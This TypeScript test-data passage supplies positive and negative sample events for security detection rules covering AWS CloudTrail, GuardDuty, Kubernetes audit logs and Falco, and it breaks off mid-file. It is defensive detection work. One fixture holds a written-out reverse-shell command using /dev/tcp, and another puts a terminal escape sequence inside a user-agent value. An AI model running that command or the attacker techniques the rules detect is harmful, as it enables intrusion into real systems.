// For every bundled rule: events it must raise (with the severity expected) and look-alikes it
// must not. rules.test.ts checks that every rule has both.

import type { IncidentEvent } from '../../../src/domain/event.js';
import type { SeverityLevel } from '../../../src/domain/severity.js';
import {
  ANONYMOUS,
  API_SA,
  audit,
  ct,
  DENIED,
  falco,
  finding,
  FORBIDDEN,
  getObject,
  IAM_USER,
  podCreate,
  ROOT,
  SAM,
} from './fixtures.js';
import { TECHNIQUE_CASES } from './cloudtrail-technique-cases.js';

export interface Case {
  pos: [string, () => IncidentEvent | IncidentEvent[], SeverityLevel][];
  neg: [string, () => IncidentEvent | IncidentEvent[]][];
}

const trail = { name: 'arn:aws:cloudtrail:eu-west-1:123456789012:trail/prod-audit-trail' };
const adminDoc = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});
const s3Doc = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*' }],
});
const sg = (port: number, cidr = '0.0.0.0/0') => ({
  groupId: 'sg-0a1b2c3d4e5f67890',
  ipPermissions: {
    items: [
      {
        ipProtocol: 'tcp',
        fromPort: port,
        toPort: port,
        ipRanges: { items: [{ cidrIp: cidr }] },
        ipv6Ranges: {},
        prefixListIds: {},
      },
    ],
  },
});
const burst = (n: number, arn?: string) =>
  Array.from({ length: n }, (_, i) =>
    getObject(new Date(Date.parse('2026-04-20T14:36:00Z') + i * 2_000).toISOString(), arn),
  );
const secretGet = (user: unknown, ua: string, ns = 'payments', more = {}) =>
  audit({
    verb: 'get',
    user,
    userAgent: ua,
    requestURI: `/api/v1/namespaces/${ns}/secrets/db`,
    objectRef: { resource: 'secrets', namespace: ns, name: 'db', apiVersion: 'v1' },
    ...more,
  });
const crb = (role: string, more = {}) =>
  audit({
    verb: 'create',
    objectRef: {
      resource: 'clusterrolebindings',
      name: 'payments-api-admin',
      apiGroup: 'rbac.authorization.k8s.io',
      apiVersion: 'v1',
    },
    responseStatus: { metadata: {}, code: 201 },
    requestObject: {
      kind: 'ClusterRoleBinding',
      metadata: { name: 'payments-api-admin' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ kind: 'ServiceAccount', name: 'api', namespace: 'payments' }],
    },
    ...more,
  });
const exec = (sub: string, more = {}) =>
  audit({
    verb: 'create',
    requestURI: `/api/v1/namespaces/payments/pods/api-1/${sub}?command=sh&container=api&stdin=true&tty=true`,
    objectRef: { resource: 'pods', namespace: 'payments', name: 'api-1', apiVersion: 'v1', subresource: sub },
    responseStatus: { metadata: {}, code: 101 },
    ...more,
  });
const debugPod = {
  hostPID: true,
  volumes: [{ name: 'root', hostPath: { path: '/' } }],
  containers: [{ name: 'd', image: 'busybox', securityContext: { privileged: true } }],
};
const del = (user: unknown, name = 'debugger') =>
  audit({ verb: 'delete', user, objectRef: { resource: 'pods', namespace: 'payments', name, apiVersion: 'v1' } });

const OWN_CASES: Record<string, Case> = {
  'cloudtrail.trail-tampering': {
    pos: [
      ['StopLogging succeeded', () => ct('cloudtrail.amazonaws.com', 'StopLogging', { requestParameters: trail }), 0],
      [
        'StopLogging denied is one lower',
        () => ct('cloudtrail.amazonaws.com', 'StopLogging', { requestParameters: trail, ...DENIED }),
        1,
      ],
      ['DeleteTrail', () => ct('cloudtrail.amazonaws.com', 'DeleteTrail', { requestParameters: trail }), 0],
      [
        'UpdateTrail',
        () => ct('cloudtrail.amazonaws.com', 'UpdateTrail', { requestParameters: { ...trail, s3BucketName: 'x' } }),
        1,
      ],
      [
        'PutEventSelectors denied',
        () =>
          ct('cloudtrail.amazonaws.com', 'PutEventSelectors', {
            requestParameters: { trailName: 'prod-audit-trail', eventSelectors: [] },
            ...DENIED,
          }),
        2,
      ],
    ],
    neg: [
      ['DescribeTrails', () => ct('cloudtrail.amazonaws.com', 'DescribeTrails')],
      ['StartLogging', () => ct('cloudtrail.amazonaws.com', 'StartLogging', { requestParameters: trail })],
      ['same name, other service', () => ct('logs.amazonaws.com', 'StopLogging')],
    ],
  },
  'cloudtrail.root-activity': {
    pos: [
      ['root API call', () => ct('iam.amazonaws.com', 'ListUsers', { userIdentity: ROOT }), 1],
      [
        'root console sign-in failed',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: ROOT,
            eventType: 'AwsConsoleSignIn',
            responseElements: { ConsoleLogin: 'Failure' },
            errorMessage: 'Failed authentication',
          }),
        2,
      ],
    ],
    neg: [
      ['IAM user', () => ct('iam.amazonaws.com', 'ListUsers', { userIdentity: IAM_USER })],
      [
        'service acting for root',
        () => ct('s3.amazonaws.com', 'PutObject', { userIdentity: { ...ROOT, invokedBy: 'cloudtrail.amazonaws.com' } }),
      ],
    ],
  },
  'cloudtrail.console-login-no-mfa': {
    pos: [
      [
        'IAM user without MFA',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: IAM_USER,
            eventType: 'AwsConsoleSignIn',
            responseElements: { ConsoleLogin: 'Success' },
            additionalEventData: { MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com' },
          }),
        2,
      ],
      [
        'failed, one lower',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: IAM_USER,
            eventType: 'AwsConsoleSignIn',
            responseElements: { ConsoleLogin: 'Failure' },
            additionalEventData: { MFAUsed: 'No' },
          }),
        3,
      ],
    ],
    neg: [
      [
        'a SAML sign-in (MFA at the identity provider)',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: IAM_USER,
            eventType: 'AwsConsoleSignIn',
            responseElements: { ConsoleLogin: 'Success' },
            additionalEventData: {
              MFAUsed: 'No',
              LoginTo: 'https://console.aws.amazon.com',
              SamlProviderArn: 'arn:aws:iam::123456789012:saml-provider/Okta',
            },
          }),
      ],
      [
        'with MFA',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: IAM_USER,
            responseElements: { ConsoleLogin: 'Success' },
            additionalEventData: { MFAUsed: 'Yes' },
          }),
      ],
      [
        'federated (SSO) sign-in',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            responseElements: { ConsoleLogin: 'Success' },
            additionalEventData: { MFAUsed: 'No' },
          }),
      ],
      [
        'MFAUsed missing',
        () =>
          ct('signin.amazonaws.com', 'ConsoleLogin', {
            userIdentity: IAM_USER,
            responseElements: { ConsoleLogin: 'Success' },
          }),
      ],
    ],
  },
  'cloudtrail.iam-new-access-key': {
    pos: [
      [
        'for another user by a role',
        () => ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' } }),
        1,
      ],
      [
        'for another user, denied',
        () =>
          ct('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'dba-breakglass' }, ...DENIED }),
        2,
      ],
      [
        'for another user by an IAM user',
        () =>
          ct('iam.amazonaws.com', 'CreateAccessKey', {
            userIdentity: IAM_USER,
            requestParameters: { userName: 'bob' },
          }),
        1,
      ],
      [
        'for oneself (policy only)',
        () =>
          ct('iam.amazonaws.com', 'CreateAccessKey', {
            userIdentity: IAM_USER,
            requestParameters: { userName: 'alice' },
          }),
        3,
      ],
    ],
    neg: [
      ['for oneself, denied', () => ct('iam.amazonaws.com', 'CreateAccessKey', { userIdentity: IAM_USER, ...DENIED })],
      ['ListAccessKeys', () => ct('iam.amazonaws.com', 'ListAccessKeys', { requestParameters: { userName: 'bob' } })],
    ],
  },
  'cloudtrail.iam-new-user': {
    pos: [
      ['CreateUser', () => ct('iam.amazonaws.com', 'CreateUser', { requestParameters: { userName: 'backup-svc' } }), 2],
      [
        'CreateLoginProfile denied',
        () =>
          ct('iam.amazonaws.com', 'CreateLoginProfile', {
            requestParameters: { userName: 'svc-orders-reporting' },
            ...DENIED,
          }),
        3,
      ],
      [
        'UpdateLoginProfile of someone else',
        () =>
          ct('iam.amazonaws.com', 'UpdateLoginProfile', {
            userIdentity: IAM_USER,
            requestParameters: { userName: 'bob' },
          }),
        2,
      ],
    ],
    neg: [
      [
        'own password change',
        () =>
          ct('iam.amazonaws.com', 'UpdateLoginProfile', {
            userIdentity: IAM_USER,
            requestParameters: { userName: 'alice' },
          }),
      ],
      ['GetUser', () => ct('iam.amazonaws.com', 'GetUser', { requestParameters: { userName: 'bob' } })],
    ],
  },
  'cloudtrail.iam-admin-policy': {
    pos: [
      [
        'AttachRolePolicy AdministratorAccess',
        () =>
          ct('iam.amazonaws.com', 'AttachRolePolicy', {
            requestParameters: {
              roleName: 'orders-api-prod',
              policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
            },
          }),
        1,
      ],
      [
        'AttachUserPolicy denied',
        () =>
          ct('iam.amazonaws.com', 'AttachUserPolicy', {
            requestParameters: { userName: 'x', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
            ...DENIED,
          }),
        2,
      ],
      [
        'PutUserPolicy * on *',
        () =>
          ct('iam.amazonaws.com', 'PutUserPolicy', {
            requestParameters: { userName: 'x', policyName: 'p', policyDocument: adminDoc },
          }),
        1,
      ],
      [
        'PutGroupPolicy URL-encoded, list form',
        () =>
          ct('iam.amazonaws.com', 'PutGroupPolicy', {
            requestParameters: {
              groupName: 'g',
              policyName: 'p',
              policyDocument: encodeURIComponent(
                JSON.stringify({ Statement: { Effect: 'Allow', Action: ['*'], Resource: ['*'] } }),
              ),
            },
          }),
        1,
      ],
    ],
    neg: [
      [
        'ReadOnlyAccess',
        () =>
          ct('iam.amazonaws.com', 'AttachRolePolicy', {
            requestParameters: { roleName: 'r', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' },
          }),
      ],
      [
        'customer policy named AdministratorAccess',
        () =>
          ct('iam.amazonaws.com', 'AttachRolePolicy', {
            requestParameters: {
              roleName: 'r',
              policyArn: 'arn:aws:iam::123456789012:policy/AdministratorAccess-lookalike',
            },
          }),
      ],
      [
        'scoped inline policy',
        () =>
          ct('iam.amazonaws.com', 'PutRolePolicy', {
            requestParameters: { roleName: 'r', policyName: 'p', policyDocument: s3Doc },
          }),
      ],
      [
        'Deny * on *',
        () =>
          ct('iam.amazonaws.com', 'PutRolePolicy', {
            requestParameters: {
              roleName: 'r',
              policyName: 'p',
              policyDocument: JSON.stringify({ Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] }),
            },
          }),
      ],
    ],
  },
  'cloudtrail.iam-trust-policy': {
    pos: [
      [
        'trust opened to anyone',
        () =>
          ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', {
            requestParameters: {
              roleName: 'orders-api-prod',
              policyDocument: JSON.stringify({
                Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }],
              }),
            },
          }),
        1,
      ],
      [
        'trust changed',
        () =>
          ct('iam.amazonaws.com', 'UpdateAssumeRolePolicy', {
            requestParameters: {
              roleName: 'r',
              policyDocument: JSON.stringify({
                Statement: [
                  { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'sts:AssumeRole' },
                ],
              }),
            },
          }),
        2,
      ],
    ],
    neg: [['GetRole', () => ct('iam.amazonaws.com', 'GetRole', { requestParameters: { roleName: 'r' } })]],
  },
  'cloudtrail.guardduty-disabled': {
    pos: [
      [
        'DeleteDetector',
        () => ct('guardduty.amazonaws.com', 'DeleteDetector', { requestParameters: { detectorId: 'abc' } }),
        1,
      ],
      [
        'UpdateDetector enable=false denied',
        () =>
          ct('guardduty.amazonaws.com', 'UpdateDetector', {
            requestParameters: { detectorId: 'abc', enable: false },
            ...DENIED,
          }),
        2,
      ],
      [
        'auto-archive filter',
        () =>
          ct('guardduty.amazonaws.com', 'CreateFilter', {
            requestParameters: { detectorId: 'abc', name: 'quiet', action: 'ARCHIVE', findingCriteria: {} },
          }),
        1,
      ],
    ],
    neg: [
      [
        'UpdateDetector publishing frequency',
        () =>
          ct('guardduty.amazonaws.com', 'UpdateDetector', {
            requestParameters: { detectorId: 'abc', findingPublishingFrequency: 'FIFTEEN_MINUTES' },
          }),
      ],
      [
        'CreateFilter NOOP',
        () =>
          ct('guardduty.amazonaws.com', 'CreateFilter', { requestParameters: { detectorId: 'abc', action: 'NOOP' } }),
      ],
      ['ListDetectors', () => ct('guardduty.amazonaws.com', 'ListDetectors', DENIED)],
    ],
  },
  'cloudtrail.flow-logs-deleted': {
    pos: [
      [
        'DeleteFlowLogs',
        () =>
          ct('ec2.amazonaws.com', 'DeleteFlowLogs', {
            requestParameters: { DeleteFlowLogsRequest: { FlowLogId: { content: 'fl-1', tag: 1 } } },
          }),
        2,
      ],
    ],
    neg: [['CreateFlowLogs', () => ct('ec2.amazonaws.com', 'CreateFlowLogs')]],
  },
  'cloudtrail.config-stopped': {
    pos: [
      [
        'StopConfigurationRecorder',
        () =>
          ct('config.amazonaws.com', 'StopConfigurationRecorder', {
            requestParameters: { configurationRecorderName: 'default' },
          }),
        2,
      ],
    ],
    neg: [['StartConfigurationRecorder', () => ct('config.amazonaws.com', 'StartConfigurationRecorder')]],
  },
  'cloudtrail.kms-key-deletion': {
    pos: [
      [
        'ScheduleKeyDeletion',
        () =>
          ct('kms.amazonaws.com', 'ScheduleKeyDeletion', {
            requestParameters: { keyId: 'arn:aws:kms:eu-west-1:123456789012:key/1234', pendingWindowInDays: 7 },
          }),
        1,
      ],
      [
        'DisableKey denied',
        () => ct('kms.amazonaws.com', 'DisableKey', { requestParameters: { keyId: '1234' }, ...DENIED }),
        2,
      ],
    ],
    neg: [['Decrypt', () => ct('kms.amazonaws.com', 'Decrypt', { requestParameters: { keyId: '1234' } })]],
  },
  'cloudtrail.sg-open-admin-port': {
    pos: [
      [
        '22 to the world',
        () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22) }),
        2,
      ],
      [
        'all protocols, ::/0',
        () =>
          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', {
            requestParameters: {
              groupId: 'sg-1',
              ipPermissions: {
                items: [{ ipProtocol: '-1', ipRanges: {}, ipv6Ranges: { items: [{ cidrIpv6: '::/0' }] } }],
              },
            },
          }),
        2,
      ],
      [
        '22 to a /0 on another base (every address all the same)',
        () =>
          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22, '208.236.235.254/0') }),
        2,
      ],
      [
        '3389 inside a range, denied',
        () =>
          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', {
            requestParameters: {
              groupId: 'sg-1',
              ipPermissions: {
                items: [
                  { ipProtocol: 'tcp', fromPort: 3000, toPort: 4000, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } },
                ],
              },
            },
            ...DENIED,
          }),
        3,
      ],
    ],
    neg: [
      [
        '22 to a /32 whose address looks like a /0',
        () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22, '10.0.0.0/32') }),
      ],
      [
        '443 to the world',
        () => ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(443) }),
      ],
      [
        '22 from the office',
        () =>
          ct('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', { requestParameters: sg(22, '198.51.100.0/24') }),
      ],
    ],
  },
  'cloudtrail.s3-public-bucket': {
    pos: [
      [
        'policy Principal *',
        () =>
          ct('s3.amazonaws.com', 'PutBucketPolicy', {
            requestParameters: {
              bucketName: 'orders-prod-data',
              bucketPolicy: {
                Version: '2012-10-17',
                Statement: [
                  {
                    Sid: 'x',
                    Effect: 'Allow',
                    Principal: '*',
                    Action: 's3:GetObject',
                    Resource: 'arn:aws:s3:::orders-prod-data/*',
                  },
                ],
              },
              policy: '',
            },
          }),
        1,
      ],
      [
        'policy Principal {AWS:*}, denied',
        () =>
          ct('s3.amazonaws.com', 'PutBucketPolicy', {
            requestParameters: {
              bucketName: 'b',
              bucketPolicy: {
                Statement: [{ Effect: 'Allow', Principal: { AWS: ['*'] }, Action: 's3:*', Resource: '*' }],
              },
            },
            ...DENIED,
          }),
        2,
      ],
      [
        'ACL AllUsers',
        () =>
          ct('s3.amazonaws.com', 'PutBucketAcl', {
            requestParameters: {
              bucketName: 'b',
              AccessControlPolicy: {
                AccessControlList: {
                  Grant: [
                    {
                      Grantee: { 'xsi:type': 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' },
                      Permission: 'READ',
                    },
                  ],
                },
              },
            },
          }),
        1,
      ],
      [
        'canned public-read',
        () =>
          ct('s3.amazonaws.com', 'PutBucketAcl', {
            requestParameters: { bucketName: 'b', 'x-amz-acl': ['public-read'] },
          }),
        1,
      ],
    ],
    neg: [
      [
        'Principal * with a VPC endpoint condition',
        () =>
          ct('s3.amazonaws.com', 'PutBucketPolicy', {
            requestParameters: {
              bucketName: 'b',
              bucketPolicy: {
                Statement: [
                  {
                    Effect: 'Allow',
                    Principal: '*',
                    Action: 's3:GetObject',
                    Resource: '*',
                    Condition: { StringEquals: { 'aws:SourceVpce': 'vpce-1' } },
                  },
                ],
              },
            },
          }),
      ],
      [
        'ACL for the owner only',
        () =>
          ct('s3.amazonaws.com', 'PutBucketAcl', {
            requestParameters: {
              bucketName: 'b',
              AccessControlPolicy: {
                AccessControlList: {
                  Grant: { Grantee: { 'xsi:type': 'CanonicalUser', ID: 'abc' }, Permission: 'FULL_CONTROL' },
                },
              },
            },
          }),
      ],
      [
        'Deny Principal *',
        () =>
          ct('s3.amazonaws.com', 'PutBucketPolicy', {
            requestParameters: {
              bucketName: 'b',
              bucketPolicy: { Statement: [{ Effect: 'Deny', Principal: '*', Action: 's3:*', Resource: '*' }] },
            },
          }),
      ],
    ],
  },
  'cloudtrail.s3-public-access-block-removed': {
    pos: [
      [
        'bucket',
        () =>
          ct('s3.amazonaws.com', 'DeleteBucketPublicAccessBlock', {
            requestParameters: { bucketName: 'orders-prod-data', publicAccessBlock: '' },
          }),
        2,
      ],
      [
        'denied',
        () =>
          ct('s3.amazonaws.com', 'DeleteBucketPublicAccessBlock', {
            requestParameters: { bucketName: 'b' },
            ...DENIED,
          }),
        3,
      ],
    ],
    neg: [
      [
        'PutPublicAccessBlock',
        () => ct('s3.amazonaws.com', 'PutPublicAccessBlock', { requestParameters: { bucketName: 'b' } }),
      ],
    ],
  },
  'cloudtrail.s3-getobject-volume': {
    pos: [
      ['100 in 200 s from a public IP', () => burst(100), 1],
      [
        '100 in 200 s from inside the VPC',
        () => burst(100).map((e) => ({ ...e, raw: { ...(e.raw as object), sourceIPAddress: '10.20.3.14' } })),
        2,
      ],
    ],
    neg: [
      ['99 in 200 s', () => burst(99)],
      [
        '100 spread over two principals',
        () => [
          ...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/1'),
          ...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/2'),
        ],
      ],
    ],
  },
  'guardduty.finding': {
    pos: [
      ['High (8.0) → Sev1', () => finding('CredentialAccess:IAMUser/AnomalousBehavior', 8), 1],
      ['exactly 7 → Sev1', () => finding('Discovery:S3/AnomalousBehavior', 7), 1],
      ['Medium (5) → Sev2', () => finding('Recon:EC2/PortProbeUnprotectedPort', 5), 2],
      ['exactly 4 as a string → Sev2', () => finding('Recon:EC2/Portscan', '4.0'), 2],
      ['Low (2) → Sev3', () => finding('Policy:IAMUser/RootCredentialUsage', 2), 3],
      [
        'EventBridge-wrapped',
        () => ({
          ...finding('x', 1),
          raw: {
            'detail-type': 'GuardDuty Finding',
            source: 'aws.guardduty',
            detail: { type: 'Backdoor:EC2/C&CActivity.B', severity: 8.5 },
          },
        }),
        1,
      ],
    ],
    neg: [
      ['archived', () => finding('Recon:EC2/Portscan', 5, { service: { archived: true } })],
      [
        'sample finding',
        () => finding('Recon:EC2/Portscan', 5, { service: { archived: false, additionalInfo: { sample: true } } }),
      ],
      ['no severity number', () => finding('Recon:EC2/Portscan', 'high')],
      ['GuardDuty API call, no finding', () => ct('guardduty.amazonaws.com', 'ListFindings')],
    ],
  },
  'k8s.exec-into-pod': {
    pos: [
      ['exec', () => exec('exec'), 2],
      ['attach over WebSocket (get)', () => exec('attach', { verb: 'get' }), 2],
      ['exec denied', () => exec('exec', FORBIDDEN), 3],
    ],
    neg: [
      ['pod logs', () => exec('log', { verb: 'get' })],
      ['RequestReceived stage (outcome follows)', () => exec('exec', { stage: 'RequestReceived' })],
      ['portforward', () => exec('portforward')],
    ],
  },
  'k8s.secret-read': {
    pos: [
      ['person gets a secret', () => secretGet(SAM, 'kubectl/v1.29.4'), 2],
      [
        'person lists secrets, denied',
        () => audit({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'payments' }, ...FORBIDDEN }),
        3,
      ],
    ],
    neg: [
      [
        'node reads a secret',
        () => secretGet({ username: 'system:node:ip-10-30-12-84', groups: ['system:nodes'] }, 'kubelet/v1.29.4'),
      ],
      [
        'person reads a configmap',
        () => audit({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'payments', name: 'x' } }),
      ],
      [
        'person updates a secret',
        () => audit({ verb: 'update', objectRef: { resource: 'secrets', namespace: 'payments', name: 'x' } }),
      ],
    ],
  },
  'k8s.secret-read-by-workload': {
    pos: [
      ['own token used with curl', () => secretGet(API_SA, 'curl/8.5.0'), 1],
      [
        'python-requests from outside, denied',
        () => secretGet(API_SA, 'python-requests/2.31.0\u001b[1A', 'payments', FORBIDDEN),
        2,
      ],
      ['another namespace’s secrets', () => secretGet(API_SA, 'api/1.4 (linux/amd64) kubernetes/abc', 'billing'), 2],
    ],
    neg: [
      [
        'app reads its own namespace with its client library',
        () => secretGet(API_SA, 'api/1.4 (linux/amd64) kubernetes/abc'),
      ],
      [
        'kube-system controller across namespaces',
        () =>
          secretGet(
            { username: 'system:serviceaccount:kube-system:generic-garbage-collector' },
            'kube-controller-manager/v1.29.4',
            'billing',
          ),
      ],
      ['person with curl (other rule)', () => secretGet(SAM, 'curl/8.5.0')],
    ],
  },
  'k8s.privileged-pod': {
    pos: [
      [
        'privileged pod by the DaemonSet controller (its workload is usually not in the log)',
        () => podCreate(debugPod, { username: 'system:serviceaccount:kube-system:daemon-set-controller' }),
        2,
      ],
      ['privileged + hostPath + hostPID', () => podCreate(debugPod), 1],
      ['hostNetwork only', () => podCreate({ hostNetwork: true, containers: [{ name: 'c', image: 'x' }] }), 1],
      [
        'DaemonSet template privileged',
        () =>
          audit({
            verb: 'create',
            objectRef: { resource: 'daemonsets', namespace: 'payments', name: 'ds', apiGroup: 'apps' },
            responseStatus: { code: 201 },
            requestObject: {
              spec: { template: { spec: { containers: [{ name: 'c', securityContext: { privileged: true } }] } } },
            },
          }),
        1,
      ],
      [
        'denied by admission',
        () => ({
          ...podCreate(debugPod),
          raw: { ...(podCreate(debugPod).raw as object), responseStatus: { code: 403 } },
        }),
        2,
      ],
      [
        'Metadata level, PSA annotation',
        () =>
          audit({
            level: 'Metadata',
            verb: 'create',
            objectRef: { resource: 'pods', namespace: 'payments', name: 'p' },
            responseStatus: { code: 201 },
            annotations: {
              'pod-security.kubernetes.io/audit-violations':
                'would violate PodSecurity "baseline:latest": privileged (container "c" must not set securityContext.privileged=true)',
            },
          }),
        1,
      ],
    ],
    neg: [
      [
        'ordinary pod',
        () =>
          podCreate({
            containers: [{ name: 'c', image: 'x', securityContext: { privileged: false, runAsNonRoot: true } }],
          }),
      ],
      [
        'privileged pod read back',
        () => ({ ...podCreate(debugPod), raw: { ...(podCreate(debugPod).raw as object), verb: 'get' } }),
      ],
    ],
  },
  'k8s.cluster-admin-binding': {
    pos: [
      ['ClusterRoleBinding to cluster-admin', () => crb('cluster-admin'), 1],
      ['denied', () => crb('cluster-admin', FORBIDDEN), 2],
      [
        'RoleBinding to cluster-admin',
        () =>
          audit({
            verb: 'create',
            objectRef: { resource: 'rolebindings', namespace: 'payments', name: 'x' },
            requestObject: {
              roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
              subjects: [{ kind: 'User', name: 'eve' }],
            },
          }),
        1,
      ],
    ],
    neg: [
      ['binding to view', () => crb('view')],
      ['deleting a cluster-admin binding', () => crb('cluster-admin', { verb: 'delete' })],
    ],
  },
  'k8s.anonymous-request': {
    pos: [
      [
        'anonymous list of secrets allowed',
        () =>
          audit({ user: ANONYMOUS, verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' } }),
        1,
      ],
      [
        'anonymous denied',
        () =>
          audit({
            user: ANONYMOUS,
            verb: 'get',
            requestURI: '/api/v1/namespaces/kube-system/pods',
            objectRef: { resource: 'pods', namespace: 'kube-system' },
            ...FORBIDDEN,
          }),
        3,
      ],
    ],
    neg: [
      ['anonymous /healthz', () => audit({ user: ANONYMOUS, verb: 'get', requestURI: '/healthz' })],
      ['anonymous /version', () => audit({ user: ANONYMOUS, verb: 'get', requestURI: '/version?timeout=32s' })],
      ['authenticated user', () => audit({ verb: 'list', requestURI: '/api/v1/secrets' })],
    ],
  },
  'k8s.evidence-destruction': {
    pos: [
      ['creator deletes the privileged pod', () => [podCreate(debugPod), del(SAM)], 1],
      ['someone else deletes it', () => [podCreate(debugPod), del({ username: 'oncall@example.com' })], 2],
    ],
    neg: [
      ['ordinary pod deleted', () => [podCreate({ containers: [{ name: 'c' }] }), del(SAM)]],
      ['delete without a seen create', () => del(SAM)],
    ],
  },
  'falco.alert': {
    pos: [
      ['Critical → Sev1', () => falco('Critical', 'Drop and execute new binary in container'), 1],
      ['Emergency → Sev1', () => falco('Emergency', 'x'), 1],
      ['Warning → Sev2', () => falco('Warning', 'Read sensitive file untrusted'), 2],
      ['Error → Sev2', () => falco('Error', 'x'), 2],
      ['Notice → Sev3', () => falco('Notice', 'Terminal shell in container'), 3],
      ['lower-case debug → Sev3', () => falco('debug', 'x'), 3],
    ],
    neg: [
      ['unknown priority', () => falco('Urgent', 'x')],
      ['no rule name', () => ({ ...falco('Critical', 'x'), raw: { priority: 'Critical' } })],
      ['a cloudtrail event', () => ct('ec2.amazonaws.com', 'RunInstances')],
    ],
  },
  'falco.outbound-c2': {
    pos: [
      [
        'stock reverse-shell rule',
        () =>
          falco('Notice', 'Redirect STDOUT/STDIN to Network Connection in Container', {
            'fd.sip': '203.0.113.77',
            'fd.sport': 4444,
          }),
        0,
      ],
      [
        '/dev/tcp in the command line',
        () =>
          falco('Warning', 'Custom shell rule', {
            'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
          }),
        0,
      ],
    ],
    neg: [
      ['terminal shell only', () => falco('Notice', 'Terminal shell in container', { 'proc.cmdline': 'sh' })],
      [
        'outbound connection only',
        () => falco('Notice', 'Unexpected outbound connection destination', { 'fd.sip': '203.0.113.77' }),
      ],
    ],
  },
  // Technique coverage (aws-technique-rules.ts): request shapes as in the AWS API references'
  // CloudTrail examples and Stratus Red Team's detonations.
  'cloudtrail.snapshot-shared': {
    pos: [
      [
        'EBS snapshot shared with an account',
        () =>
          ct('ec2.amazonaws.com', 'ModifySnapshotAttribute', {
            requestParameters: {
              snapshotId: 'snap-0b1c2d3e4f5a67890',
              createVolumePermission: { add: { items: [{ userId: '012345678901' }] } },
              attributeType: 'CREATE_VOLUME_PERMISSION',
            },
          }),
        1,
      ],
      [
        'AMI made public',
        () =>
          ct('ec2.amazonaws.com', 'ModifyImageAttribute', {
            requestParameters: {
              imageId: 'ami-0abc1234def567890',
              launchPermission: { add: { items: [{ group: 'all' }] } },
              attributeType: 'launchPermission',
            },
          }),
        1,
      ],
      [
        'RDS snapshot shared',
        () =>
          ct('rds.amazonaws.com', 'ModifyDBSnapshotAttribute', {
            requestParameters: {
              dBSnapshotIdentifier: 'orders-prod-2026-04-20',
              attributeName: 'restore',
              valuesToAdd: ['012345678901'],
            },
          }),
        1,
      ],
      [
        'denied',
        () =>
          ct('ec2.amazonaws.com', 'ModifySnapshotAttribute', {
            requestParameters: {
              snapshotId: 'snap-1',
              createVolumePermission: { add: { items: [{ userId: '012345678901' }] } },
            },
            ...DENIED,
          }),
        2,
      ],
    ],
    neg: [
      [
        'permission removed',
        () =>
          ct('ec2.amazonaws.com', 'ModifySnapshotAttribute', {
            requestParameters: {
              snapshotId: 'snap-1',
              createVolumePermission: { remove: { items: [{ userId: '012345678901' }] } },
            },
          }),
      ],
      [
        'RDS values removed',
        () =>
          ct('rds.amazonaws.com', 'ModifyDBSnapshotAttribute', {
            requestParameters: {
              dBSnapshotIdentifier: 's',
              attributeName: 'restore',
              valuesToRemove: ['012345678901'],
            },
          }),
      ],
    ],
  },
  'cloudtrail.leave-organization': {
    pos: [
      [
        'LeaveOrganization',
        () => ct('organizations.amazonaws.com', 'LeaveOrganization', { requestParameters: null }),
        1,
      ],
    ],
    neg: [
      ['DescribeOrganization', () => ct('organizations.amazonaws.com', 'DescribeOrganization', { readOnly: true })],
    ],
  },
  'cloudtrail.dns-query-log-deleted': {
    pos: [
      [
        'DeleteResolverQueryLogConfig',
        () =>
          ct('route53resolver.amazonaws.com', 'DeleteResolverQueryLogConfig', {
            requestParameters: { resolverQueryLogConfigId: 'rqlc-8ca61fe7c055415a' },
          }),
        2,
      ],
    ],
    neg: [
      [
        'CreateResolverQueryLogConfig',
        () => ct('route53resolver.amazonaws.com', 'CreateResolverQueryLogConfig', { requestParameters: { name: 'q' } }),
      ],
    ],
  },
  'cloudtrail.ec2-password-data': {
    pos: [
      [
        'GetPasswordData',
        () =>
          ct('ec2.amazonaws.com', 'GetPasswordData', {
            requestParameters: { instanceId: 'i-0a1b2c3d4e5f67890' },
            readOnly: true,
          }),
        2,
      ],
    ],
    neg: [
      [
        'DescribeInstances',
        () => ct('ec2.amazonaws.com', 'DescribeInstances', { requestParameters: { instancesSet: {} }, readOnly: true }),
      ],
